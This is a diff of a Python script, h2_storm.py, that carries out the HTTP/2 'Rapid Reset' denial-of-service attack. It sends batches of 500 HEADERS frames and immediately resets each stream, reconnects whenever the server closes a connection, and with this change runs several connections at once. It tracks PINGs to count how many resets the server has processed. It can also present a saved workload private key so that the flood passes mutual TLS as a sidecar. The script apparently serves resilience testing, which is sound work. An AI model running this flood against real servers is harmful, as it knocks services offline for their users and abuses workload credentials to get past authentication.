@@ -1,11 +1,11 @@
 """Opens HTTP/2 streams and resets them at once, as fast as it can ("Rapid Reset").
-Usage: h2_storm.py HOST PORT SECONDS [IDENTITY_JSON]
-With a workload's identity it comes as another sidecar (`weft-h2`). A connection that the other side
-ends is made anew. Prints one JSON object: streams reset, connections, and the error codes of GOAWAY."""
+Usage: h2_storm.py HOST PORT SECONDS [IDENTITY_JSON|-] [CONNECTIONS]
+With a workload's identity it comes as another sidecar (`weft-h2`). A connection that the other side ends is made
+anew. Prints one JSON object: streams reset, those of them that the other side has read (it has answered a PING
+behind them), connections, and the error codes of GOAWAY."""
 
 import base64
 import json
-import os
 import select
 import socket
 import ssl
@@ -14,8 +14,6 @@ import sys
 import tempfile
 import time
 
-HOST, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
-IDENTITY = sys.argv[4] if len(sys.argv) > 4 else None
 # :method GET, :scheme http, :path /, :authority a
 HEAD = bytes([0x82, 0x86, 0x84, 0x01, 0x01]) + b"a"
 BATCH = 500
@@ -27,8 +25,8 @@ def pem(kind, der):
     return "\n".join([f"-----BEGIN {kind}-----", *lines, f"-----END {kind}-----", ""])
 
 
-def as_sidecar(sock):
-    saved = json.load(open(IDENTITY))
+def as_sidecar(sock, identity):
+    saved = json.load(open(identity))
     der = base64.b64decode
     with tempfile.NamedTemporaryFile("w", suffix=".pem") as file:
         file.write(pem("PRIVATE KEY", der(saved["key"])))
@@ -44,21 +42,35 @@ def as_sidecar(sock):
 
 
 class Connection:
-    def __init__(self):
-        sock = socket.create_connection((HOST, PORT), timeout=20)
+    def __init__(self, host, port, identity=None, source=None):
+        address = (source, 0) if source else None
+        sock = socket.create_connection((host, port), timeout=20, source_address=address)
         sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
-        self.sock = as_sidecar(sock) if IDENTITY else sock
+        self.sock = as_sidecar(sock, identity) if identity else sock
         self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">HBBBI", 0, 0, 4, 0, 0))
         self.sock.setblocking(False)
         self.stream, self.received, self.goaway, self.ended = 1, b"", None, False
+        self.unsent, self.batches, self.read_by_server = b"", 0, 0
+        self.answered = set()
+
+    def fileno(self):
+        return self.sock.fileno()
+
+    def ask(self):
+        """Begins a request; its stream."""
+        stream, self.stream = self.stream, self.stream + 2
+        self.unsent += struct.pack(">HBBBI", 0, len(HEAD), 1, 5, stream) + HEAD
+        return stream
+
+    def reset(self, stream):
+        self.unsent += struct.pack(">HBBBII", 0, 4, 3, 0, stream, 8)
 
     def batch(self):
-        parts = []
+        """So many requests that are reset at once, and a PING behind them."""
         for _ in range(BATCH):
-            parts.append(struct.pack(">HBBBI", 0, len(HEAD), 1, 5, self.stream) + HEAD)
-            parts.append(struct.pack(">HBBBII", 0, 4, 3, 0, self.stream, 8))
-            self.stream += 2
-        return b"".join(parts)
+            self.reset(self.ask())
+        self.unsent += struct.pack(">HBBBIQ", 0, 8, 6, 0, 0, self.batches)
+        self.batches += 1
 
     def read(self):
         try:
@@ -73,36 +85,69 @@ class Connection:
             length = int.from_bytes(self.received[:3], "big")
             if len(self.received) < 9 + length:
                 break
-            if self.received[3] == 7:
-                self.goaway = int.from_bytes(self.received[13:17], "big")
+            self.frame(*self.received[3:5], int.from_bytes(self.received[5:9], "big"), self.received[9:9 + length])
             self.received = self.received[9 + length:]
 
-    def send(self, data, end):
-        """Whether all of it was sent in time."""
-        while data and time.monotonic() < end and not self.ended:
+    def frame(self, kind, flags, stream, payload):
+        if kind == 7:
+            self.goaway = int.from_bytes(payload[4:8], "big")
+        if kind == 6 and flags & 1:
+            self.read_by_server += BATCH
+        if kind == 4 and not flags & 1:
+            self.unsent += struct.pack(">HBBBI", 0, 0, 4, 1, 0)
+        if kind in (0, 1) and flags & 1:
+            self.answered.add(stream)
+        if kind == 0 and payload:
+            self.unsent += struct.pack(">HBBBII", 0, 4, 8, 0, 0, len(payload))
+
+    def work(self):
+        """Sends and reads what goes at once."""
+        try:
+            while self.unsent and not self.ended:
+                self.unsent = self.unsent[self.sock.send(self.unsent):]
+        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
+            pass
+        except OSError:
+            self.ended = True
+        self.read()
+
+
+def storm(host, port, seconds, identity, count):
+    end = time.monotonic() + seconds
+    sent, made, taken, codes, open_ones = 0, 0, 0, [], []
+
+    def close(connection):
+        nonlocal taken
+        taken += connection.read_by_server
+        if connection.goaway is not None:
+            codes.append(connection.goaway)
+        connection.sock.close()
+
+    while time.monotonic() < end:
+        while len(open_ones) < count and time.monotonic() < end:
             try:
-                data = data[self.sock.send(data):]
-            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
-                select.select([self.sock], [self.sock], [], 0.05)
+                open_ones.append(Connection(host, port, identity))
+                made += 1
             except OSError:
-                self.ended = True
-            self.read()
-        return not data
+                break
+        select.select(open_ones, [one for one in open_ones if one.unsent], [], 0.0 if any(
+            not one.unsent for one in open_ones) else 0.05)
+        for connection in open_ones:
+            if not connection.unsent:
+                connection.batch()
+                sent += BATCH
+            connection.work()
+        for connection in [one for one in open_ones if one.ended]:
+            open_ones.remove(connection)
+            close(connection)
+    for connection in open_ones:
+        connection.read()
+        close(connection)
+    return dict(sent=sent, taken=taken, connections=made, codes=sorted(set(codes)))
 
 
-end = time.monotonic() + SECONDS
-sent, connections, codes = 0, 0, []
-while time.monotonic() < end:
-    try:
-        connection = Connection()
-    except OSError:
-        continue
-    connections += 1
-    while time.monotonic() < end and not connection.ended:
-        if connection.send(connection.batch(), end):
-            sent += BATCH
-    connection.read()
-    if connection.goaway is not None:
-        codes.append(connection.goaway)
-    connection.sock.close()
-print(json.dumps(dict(sent=sent, connections=connections, codes=sorted(set(codes)))), flush=True)
+if __name__ == "__main__":
+    HOST, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
+    IDENTITY = sys.argv[4] if len(sys.argv) > 4 and sys.argv[4] != "-" else None
+    CONNECTIONS = int(sys.argv[5]) if len(sys.argv) > 5 else 1
+    print(json.dumps(storm(HOST, PORT, SECONDS, IDENTITY, CONNECTIONS)), flush=True)
